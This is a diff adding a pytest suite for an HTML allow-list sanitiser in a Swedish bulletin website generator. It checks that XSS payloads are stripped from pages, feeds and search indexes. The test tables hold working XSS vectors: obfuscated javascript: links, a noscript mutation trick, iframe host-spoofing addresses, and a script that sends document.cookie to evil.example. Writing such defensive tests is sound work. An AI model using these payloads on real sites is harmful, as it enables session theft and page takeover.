@@ -1,0 +1,367 @@
+"""Safe bodies: raw HTML in a bulletin goes through an allow-list (nh3) before any output.
+
+The policy is tested as plain functions (a table of hostile inputs and what comes out), then
+real builds show that a hostile body is gone from every output, with one exact warning per
+removal that stops ``--strict``, and that a site can let an iframe from one host through.
+"""
+from __future__ import annotations
+
+import json
+import os
+import subprocess
+import sys
+
+import markdown
+import pytest
+from lxml import etree
+
+from bulletin_site import sanitize
+from bulletin_site.i18n import Translator
+from conftest import REPO, FIXED_EPOCH
+
+SLUG = "2023-05-12-brandrisk"
+FILE = f"bulletins/{SLUG}.md"
+NS = {"content": "http://purl.org/rss/1.0/modules/content/"}
+
+# ---- the policy as a plain function ------------------------------------------------------------
+
+HOSTILE = [
+    # (what a body's HTML holds, what is published)
+    ('<p>a</p><script>alert(1)</script>', '<p>a</p>'),
+    ('<p>a</p><SCRIPT SRC="https://evil.example/x.js"></SCRIPT>', '<p>a</p>'),
+    ('<style>body{display:none}</style><p>a</p>', '<p>a</p>'),
+    ('<p><img src="a.png" onerror="alert(1)" alt="A" /></p>', '<p><img src="a.png" alt="A" /></p>'),
+    ('<p onclick="x()" onmouseover="y()">a</p>', '<p>a</p>'),
+    ('<p><a href="javascript:alert(1)">a</a></p>', '<p><a>a</a></p>'),
+    ('<p><a href="JaVaScRiPt:alert(1)">a</a></p>', '<p><a>a</a></p>'),
+    ('<p><a href="java&#x09;script:alert(1)">a</a></p>', '<p><a>a</a></p>'),
+    ('<p><a href=" &#106;avascript:alert(1)">a</a></p>', '<p><a>a</a></p>'),
+    ('<p><a href="vbscript:msgbox(1)">a</a></p>', '<p><a>a</a></p>'),
+    ('<p><a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">a</a></p>', '<p><a>a</a></p>'),
+    ('<p><img src="data:image/png;base64,iVBORw0KGgo=" alt="A" /></p>', '<p><img alt="A" /></p>'),
+    ('<iframe src="https://www.youtube-nocookie.com/embed/x"></iframe><p>a</p>', '<p>a</p>'),
+    ('<form action="https://evil.example/"><input name="pin" /><button>Skicka</button></form>',
+     'Skicka'),
+    ('<meta http-equiv="refresh" content="0;url=https://evil.example/" /><p>a</p>', '<p>a</p>'),
+    ('<object data="x.swf"><embed src="x.swf" /></object><p>a</p>', '<p>a</p>'),
+    ('<base href="https://evil.example/" /><link rel="stylesheet" href="x.css" /><p>a</p>',
+     '<p>a</p>'),
+    ('<svg><script>alert(1)</script></svg><math><mtext>m</mtext></math><p>a</p>', '<p>a</p>'),
+    ('<p style="position:fixed;top:0">a</p>', '<p>a</p>'),
+    ('<td style="background:url(x)">1</td>', '1'),  # a cell outside a table is not a cell
+    ('<table><tr><td style="background:url(x)">1</td></tr></table>',
+     '<table><tbody><tr><td>1</td></tr></tbody></table>'),
+    ('<blockquote cite="javascript:alert(1)">q</blockquote>', '<blockquote>q</blockquote>'),
+    ('<p>a<!-- <script>alert(1)</script> --></p>', '<p>a</p>'),
+    ('<p>x</p><!--><script>alert(1)</script><!---->', '<p>x</p>'),
+    # read as a browser reads it: the <img> is outside <noscript> (a sanitiser that read it
+    # inside would publish it whole)
+    ('<noscript><p title="</noscript><img src=x onerror=alert(1)>"></p></noscript>',
+     '<img src="x" />"&gt;<p></p>'),
+    ('<textarea><script>alert(1)</script></textarea><p>a</p>', '<p>a</p>'),
+    ('<p><a href="/om/" target="_blank" name="x">a</a></p>', '<p><a href="/om/">a</a></p>'),
+    ('<p>a<br>b<hr>', '<p>a<br />b</p><hr />'),
+    ('<p title="a&quot;b&#10;c">x &amp; y &lt; z</p>', '<p title="a&quot;b&#10;c">x &amp; y &lt; z</p>'),
+]
+
+
+@pytest.mark.parametrize(("given", "published"), HOSTILE)
+def test_the_policy_removes_what_can_run_code_or_take_over_the_page(given, published):
+    assert sanitize.Policy().clean(given) == published
+
+
+MARKDOWN = """\
+Inledning med **fet**, *kursiv*, `kod & <x>`, "citat" och 'enkla' – åäö & 5 > 3.
+
+## Råd till boende {: .viktig #rad title="Råd" }
+
+- punkt med [länk](https://www.smhi.se/?a=1&b=2 "SMHI")
+- punkt med [intern](../om/) och <https://krisinformation.se/>
+
+1. ett
+2. två
+
+| Plats | Tid | Antal |
+|:------|:---:|------:|
+| Torget | 12:00 | 3 |
+
+!!! warning "Eldningsförbud"
+    Elda inte.
+
+![Karta](../bilder/karta.png "Kartan"){ width=300 loading=lazy }
+
+> Citat
+
+    kod &amp; <pre>
+
+Rad ett om SMHI  
+rad två
+
+---
+
+*[SMHI]: Sveriges meteorologiska och hydrologiska institut
+"""
+
+
+def test_what_markdown_and_the_sites_extensions_write_is_published_byte_for_byte():
+    html = markdown.Markdown(extensions=["admonition", "attr_list", "tables", "toc", "abbr"],
+                             output_format="xhtml").convert(MARKDOWN)
+    assert "<abbr" in html and "<table>" in html and 'class="admonition warning"' in html
+    assert sanitize.Policy().clean(html) == html
+
+
+def test_harmless_raw_html_is_published_as_written():
+    given = '<div class="ruta"><p>Text<br>mer</p><img src="a.png" alt="A"></div>'
+    assert sanitize.Policy().clean(given) == given
+
+
+def test_a_body_with_something_removed_is_written_as_markdown_writes_html():
+    given = '<div class="ruta"><p>Text<br>mer<img src="a.png" onload="x()"></p></div>'
+    assert sanitize.Policy().clean(given) == '<div class="ruta"><p>Text<br />mer<img src="a.png" /></p></div>'
+
+
+def test_an_allowed_iframe_keeps_its_address_only_from_an_allowed_host():
+    policy = sanitize.Policy([("iframe", ("src", "title", "allowfullscreen"))], ["www.youtube-nocookie.com"])
+    good = '<iframe src="https://www.youtube-nocookie.com/embed/x" title="Film" allowfullscreen></iframe>'
+    assert policy.clean(good) == ('<iframe src="https://www.youtube-nocookie.com/embed/x" title="Film" '
+                                  'allowfullscreen=""></iframe>')
+    for address in ("https://evil.example/embed/x", "http://www.youtube-nocookie.com/embed/x",
+                    "//www.youtube-nocookie.com/embed/x", "https://www.youtube-nocookie.com.evil.example/",
+                    "https://evil.example@evil.example/", "javascript:alert(1)"):
+        assert policy.clean(f'<p>a</p><iframe src="{address}" title="Film"></iframe>') == "<p>a</p>", address
+
+
+def test_an_allowed_iframe_publishes_nothing_of_what_it_holds():
+    policy = sanitize.Policy([("iframe", ("src",))], ["www.youtube-nocookie.com"])
+    given = '<iframe src="https://www.youtube-nocookie.com/embed/x"><script>alert(1)</script></iframe>'
+    assert policy.clean(given) == '<iframe src="https://www.youtube-nocookie.com/embed/x"></iframe>'
+
+
+REMOVALS = [
+    ('<script>alert(1)</script>', "the <script> element was removed"),
+    ('<img src="a.png" onerror="alert(1)" />', "the onerror attribute of <img> was removed"),
+    ('<a href="javascript:alert(1)">a</a>', "the javascript: link was removed (its text is kept)"),
+    ('<img src="data:image/png;base64,AAAA" />', "the data: address in <img src> was removed"),
+    ('<iframe src="https://www.youtube.com/embed/x"></iframe>', "the <iframe> element was removed"),
+    ('<meta http-equiv="refresh" content="0" />', "the <meta> element was removed"),
+]
+
+
+@pytest.mark.parametrize(("given", "message"), REMOVALS)
+def test_each_removal_is_named(given, message):
+    removal, = sanitize.Policy().removals(given)
+    assert sanitize.describe(removal, Translator("en"))[0] == message
+
+
+def test_a_refused_iframe_host_is_named():
+    policy = sanitize.Policy([("iframe", ("src",))], ["www.youtube-nocookie.com"])
+    removal, = policy.removals('<iframe src="https://www.youtube.com/embed/x"></iframe>')
+    assert sanitize.describe(removal, Translator("en")) == (
+        "the frame (<iframe>) from www.youtube.com was removed",
+        "link to the page instead, or add www.youtube.com to extra.bulletins.allow_iframe_hosts "
+        "if the site trusts it (https only)")
+
+
+# ---- the settings ------------------------------------------------------------------------------
+
+def test_allow_html_options_are_normalised():
+    assert sanitize.validated_options({"IFRAME": ["src", "Title", "src"], "video": None},
+                                      ["WWW.YouTube-nocookie.com"]) == (
+        (("iframe", ("src", "title")), ("video", ())), ("www.youtube-nocookie.com",))
+
+
+REFUSED_OPTIONS = [
+    ({"script": ["src"]}, [],
+     "extra.bulletins.allow_html: 'script' can never be allowed: it can run code, send forms or "
+     "change the page around the bulletin — remove 'script' from allow_html"),
+    ({"blink-tag": []}, [],
+     "extra.bulletins.allow_html: 'blink-tag' is not an HTML element — write the element's name, e.g. iframe"),
+    ({"iframe": ["src", "onload"]}, ["www.youtube-nocookie.com"],
+     "extra.bulletins.allow_html: the attribute 'onload' of 'iframe' can never be allowed: it can run "
+     "code, style the page or load a page of its own — remove 'onload' from the list"),
+    ({"iframe": ["srcdoc"]}, [],
+     "extra.bulletins.allow_html: the attribute 'srcdoc' of 'iframe' can never be allowed: it can run "
+     "code, style the page or load a page of its own — remove 'srcdoc' from the list"),
+    ({"iframe": "src"}, [],
+     "extra.bulletins.allow_html: the attributes of 'iframe' must be a list — write e.g. "
+     "'iframe: [title]', or 'iframe: []' for the element without attributes"),
+    ({"iframe": ["src"]}, [],
+     "extra.bulletins.allow_iframe_hosts: allow_html allows src on iframe but no host is allowed — "
+     "list the hosts whose frames may be shown, e.g. 'allow_iframe_hosts: [www.youtube-nocookie.com]'"),
+    ({"iframe": ["src"]}, ["https://www.youtube-nocookie.com/embed"],
+     "extra.bulletins.allow_iframe_hosts: 'https://www.youtube-nocookie.com/embed' is not a host name — "
+     "write the host name alone, without https:// and path, e.g. www.youtube-nocookie.com"),
+    ({}, ["www.youtube-nocookie.com"],
+     "extra.bulletins.allow_iframe_hosts: the hosts are not used: allow_html does not allow iframe "
+     "with src — add 'iframe: [src, title]' to allow_html, or remove allow_iframe_hosts"),
+]
+
+
+@pytest.mark.parametrize(("allow_html", "hosts", "message"), REFUSED_OPTIONS)
+def test_dangerous_or_unknown_allow_html_is_refused(allow_html, hosts, message):
+    with pytest.raises(sanitize.PolicyError) as caught:
+        sanitize.validated_options(allow_html, hosts)
+    problem, = caught.value.as_problems(Translator("en"))
+    assert str(problem) == f"mkdocs.yml: {message}"
+
+
+# ---- real builds -------------------------------------------------------------------------------
+
+HOSTILE_BODY = """\
+Det råder eldningsförbud.
+
+<script>fetch("https://evil.example/?c=" + document.cookie)</script>
+
+<img src="../../bilder/karta.png" alt="Karta" onerror="alert('img')">
+
+Läs [mer här](javascript:alert(1)).
+
+<meta http-equiv="refresh" content="0;url=https://evil.example/">
+
+## Råd {: onclick="alert('rubrik')" }
+
+Grilla inte.
+"""
+
+WARNINGS_SV = [
+    f"{FILE}:12: body: elementet <script> togs bort — ta bort <script> ur texten; skript, ramar, "
+    "formulär och stilar publiceras inte (en webbplats kan tillåta vissa element i extra.bulletins.allow_html)",
+    f"{FILE}:14: body: attributet onerror på <img> togs bort — ta bort onerror ur texten; "
+    "händelseattribut (on…) och stilar publiceras inte",
+    f"{FILE}:16: body: javascript:-länken togs bort (texten står kvar) — länka bara till http-, https-, "
+    "mailto- och tel-adresser eller till sidor och bilder på webbplatsen (bilder läggs i docs/)",
+    f"{FILE}:18: body: elementet <meta> togs bort — ta bort <meta> ur texten; skript, ramar, "
+    "formulär och stilar publiceras inte (en webbplats kan tillåta vissa element i extra.bulletins.allow_html)",
+    f"{FILE}:20: body: attributet onclick på <h2> togs bort — ta bort onclick ur texten; "
+    "händelseattribut (on…) och stilar publiceras inte",
+]
+
+TRACES = ("evil.example", "document.cookie", "alert", "onerror", "onclick", "javascript:", "http-equiv")
+
+
+def warnings(result: subprocess.CompletedProcess) -> list[str]:
+    return [line.split("bulletins: ", 1)[1] for line in result.stderr.splitlines()
+            if line.startswith("WARNING") and "bulletins: " in line]
+
+
+@pytest.fixture(scope="module")
+def hostile(tmp_path_factory):
+    """A site with one hostile bulletin, built without --strict (the outputs are then written)."""
+    from conftest import BASE_CONFIG, Project  # noqa: PLC0415
+    import yaml  # noqa: PLC0415
+
+    root = tmp_path_factory.mktemp("hostile")
+    p = Project(root)
+    p.write("mkdocs.yml", yaml.safe_dump(BASE_CONFIG, allow_unicode=True))
+    p.write("docs/index.md", "# Trygghet i Exempelby\n")
+    p.write("docs/bilder/karta.png", bytes.fromhex("89504e470d0a1a0a"))
+    p.bulletin(SLUG, body=HOSTILE_BODY)
+    env = {**os.environ, "SOURCE_DATE_EPOCH": FIXED_EPOCH, "NO_MKDOCS_2_WARNING": "1"}
+    result = subprocess.run([sys.executable, "-m", "mkdocs", "build", "-d", str(p.site)],
+                            cwd=root, env=env, capture_output=True, text=True)
+    assert result.returncode == 0, result.stderr
+    return p, result
+
+
+def test_a_hostile_body_gives_one_warning_per_removal_with_file_and_line(hostile):
+    _, result = hostile
+    assert warnings(result) == WARNINGS_SV
+
+
+def test_a_hostile_body_fails_a_strict_build(project):
+    project.bulletin(SLUG, body=HOSTILE_BODY)
+    result = project.build(check=False)
+    assert result.returncode == 1
+    assert warnings(result) == WARNINGS_SV
+    assert "Aborted with 5 warnings in strict mode!" in result.stdout + result.stderr
+
+
+@pytest.mark.parametrize("uri", [f"bulletins/{SLUG}/index.html", f"bulletins/{SLUG}/print/index.html"])
+def test_a_hostile_body_is_gone_from_the_page_and_the_print_page(hostile, uri):
+    p, _ = hostile
+    text = p.read(uri)
+    assert "Grilla inte." in text and "Läs <a>mer här</a>." in text
+    assert [trace for trace in TRACES if trace in text] == []
+
+
+def test_a_hostile_body_is_gone_from_the_search_index(hostile):
+    p, _ = hostile
+    docs = json.loads(p.read("search/search_index.json"))["docs"]
+    text = " ".join(doc["text"] for doc in docs if doc["location"].startswith(f"bulletins/{SLUG}/"))
+    assert "<p>Läs mer här.</p>" in text and "<p>Grilla inte.</p>" in text
+    assert [trace for trace in TRACES if trace in text] == []
+
+
+def test_a_hostile_body_is_gone_from_the_rss_full_text(hostile):
+    p, _ = hostile
+    root = etree.fromstring((p.site / "feed.xml").read_bytes())
+    content = root.find("channel/item").findtext("content:encoded", namespaces=NS)
+    assert content == (
+        '<div><p>Det råder eldningsförbud.</p>\n\n\n'
+        '<p><img src="https://trygghet.example.se/bilder/karta.png" alt="Karta"></p>\n'
+        '<p>Läs <a>mer här</a>.</p>\n<p></p>\n'  # the <meta> was in a paragraph of its own
+        '<h2 id="rad">Råd</h2>\n<p>Grilla inte.</p></div>')
+
+
+def test_a_hostile_body_is_gone_from_the_json_feed(hostile):
+    p, _ = hostile
+    item, = json.loads(p.read("feed.json"))["items"]
+    assert "Grilla inte." in item["content_html"]
+    assert [trace for trace in TRACES if trace in item["content_html"]] == []
+
+
+def test_removals_are_warned_in_english_on_an_english_site(project):
+    project.configure(theme={**project_theme(project), "language": "en"})
+    project.bulletin(SLUG, body="Text.\n\n<iframe src=\"https://evil.example/\"></iframe>\n")
+    result = project.build(check=False)
+    assert warnings(result) == [
+        f"{FILE}:12: body: the <iframe> element was removed — remove <iframe> from the text; scripts, "
+        "frames, forms and styles are not published (a site can allow some elements in "
+        "extra.bulletins.allow_html)"]
+
+
+def project_theme(project) -> dict:
+    import yaml  # noqa: PLC0415
+
+    return yaml.safe_load((project.root / "mkdocs.yml").read_text(encoding="utf-8"))["theme"]
+
+
+VIDEO = "https://www.youtube-nocookie.com/embed/abc"
+
+
+def test_a_site_can_allow_iframes_from_one_host_and_refuses_another(project):
+    project.configure(bulletins={"allow_html": {"iframe": ["src", "title", "allowfullscreen"]},
+                                 "allow_iframe_hosts": ["www.youtube-nocookie.com"]})
+    project.bulletin(SLUG, body=(
+        f'Se filmen.\n\n<iframe src="{VIDEO}" title="Film" allowfullscreen></iframe>\n\n'
+        '<iframe src="https://video.evil.example/embed/abc" title="Film"></iframe>\n'))
+    result = project.build(check=False)
+    assert warnings(result) == [
+        f"{FILE}:14: body: ramen (<iframe>) från video.evil.example togs bort — länka till sidan i "
+        "stället, eller lägg till video.evil.example i extra.bulletins.allow_iframe_hosts om "
+        "webbplatsen litar på den (bara https)"]
+    page = project.read(f"bulletins/{SLUG}/index.html")
+    assert f'<iframe src="{VIDEO}" title="Film" allowfullscreen=""></iframe>' in page
+    assert "evil.example" not in page
+    assert VIDEO in project.read(f"bulletins/{SLUG}/print/index.html")
+
+
+def test_a_script_in_allow_html_stops_the_build_and_check(project):
+    project.configure(bulletins={"allow_html": {"script": ["src"]}})
+    project.bulletin(SLUG)
+    message = ("mkdocs.yml: extra.bulletins.allow_html: 'script' kan aldrig tillåtas: det kan köra "
+               "kod, skicka formulär eller ändra sidan runt meddelandet — ta bort 'script' ur allow_html")
+    result = project.build(check=False)
+    assert result.returncode == 1 and message in result.stderr
+    env = {**os.environ, "PYTHONPATH": str(REPO / "hooks"), "SOURCE_DATE_EPOCH": FIXED_EPOCH}
+    check = subprocess.run([sys.executable, "-m", "bulletin_site.cli", "check"], cwd=project.root,
+                           env=env, capture_output=True, text=True)
+    assert check.returncode == 1 and message in check.stdout
+
+
+def test_allow_html_of_the_wrong_type_is_refused_by_mkdocs_config_validation(project):
+    project.configure(bulletins={"allow_html": ["iframe"]})
+    project.bulletin(SLUG)
+    result = project.build(check=False)
+    assert result.returncode == 1
+    assert "extra.bulletins.allow_html: Expected type: <class 'dict'> but received: <class 'list'>" in result.stderr
